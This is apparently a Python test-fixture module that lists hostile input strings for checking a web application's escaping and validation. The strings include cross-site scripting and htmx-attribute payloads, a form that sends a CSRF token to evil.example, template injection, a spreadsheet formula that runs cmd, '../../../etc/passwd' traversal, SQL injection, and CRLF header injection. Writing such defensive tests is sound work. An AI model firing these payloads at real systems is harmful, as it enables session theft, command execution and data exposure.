"""Hostile texts. No list of attacks is complete, so tests compare structures."""

from __future__ import annotations

# Texts that have an effect if they are not escaped: markup, attributes of htmx,
# templates, scripts, headers, other directions of writing, other widths.
TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    '<b hx-get="/logout" hx-trigger="load">x</b>',
    '<div id="toasts" hx-swap-oob="innerHTML">x</div>',
    '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
    "</title><h1>x</h1><title>",
    "</textarea></script></style></svg><svg onload=alert(1)>",
    "<form action=//evil.example><input name=csrf_token>",
    "<base href=//evil.example>",
    "<!-- <b>",
    "]]><![CDATA[<b>",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "&lt;b&gt;&#60;b&#62;&amp;quot;",
    "javascript:alert(1)",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING}x",
    "Z" + "\N{COMBINING ACUTE ACCENT}\N{COMBINING CEDILLA}" * 60,
    "\\u003cb\\u003e\\x3cb\\x3e",
    "=cmd|' /C calc'!A0",
    "%3Cb%3E%22%27",
    "x" * 200,
    "../../../etc/passwd",
    "\N{MAN}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{ZERO WIDTH JOINER}\N{GIRL}",
]


def together(longest: int) -> list[str]:
    """All of TEXTS in fewer texts, each of at most this many characters."""
    found = [""]
    for text in TEXTS:
        if len(found[-1]) + len(text) > longest:
            found.append("")
        found[-1] += text[:longest]
    return found


# Texts that the databases store differently or not at all.
UNSTORABLE = ["nul\x00byte", "\x00", "bell\x07", "\x1b[2J", "\x9d", "\ud800", "a\udfffb"]

# Invalid numbers, or numbers too large for one of the databases.
NUMBERS = [
    "-1", "0", "1", "007", "+1", "1.0", "1e3", "0x7cf", "NaN", "Infinity", "1_000", "١٩٩٩", "１",
    "²", "1999\x00", str(2**31), str(2**63 - 1), str(2**63), str(10**18 - 1), "1" + "0" * 30,
    "9" * 5000, "' OR 1=1 --", "null", "true", "[]", "{}",
]  # fmt: skip

EMPTY = ["", " ", "\t\r\n", "\N{ZERO WIDTH SPACE}", "\N{COMBINING ACUTE ACCENT}", "\u3164"]
LONG = ["x" * 5_000, "%" * 1_000, "\N{GUITAR}" * 2_000, "ß" * 300, "\ufdfa" * 200, "<" * 4_000]
SPLITTING = ["a\r\nSet-Cookie: x=y", "a\nb", "a\rb", "a\u2028b", "a\u0085b", "\ufeff", "é" * 50]

ANYTHING = [*TEXTS, *UNSTORABLE, *NUMBERS, *EMPTY, *LONG, *SPLITTING]
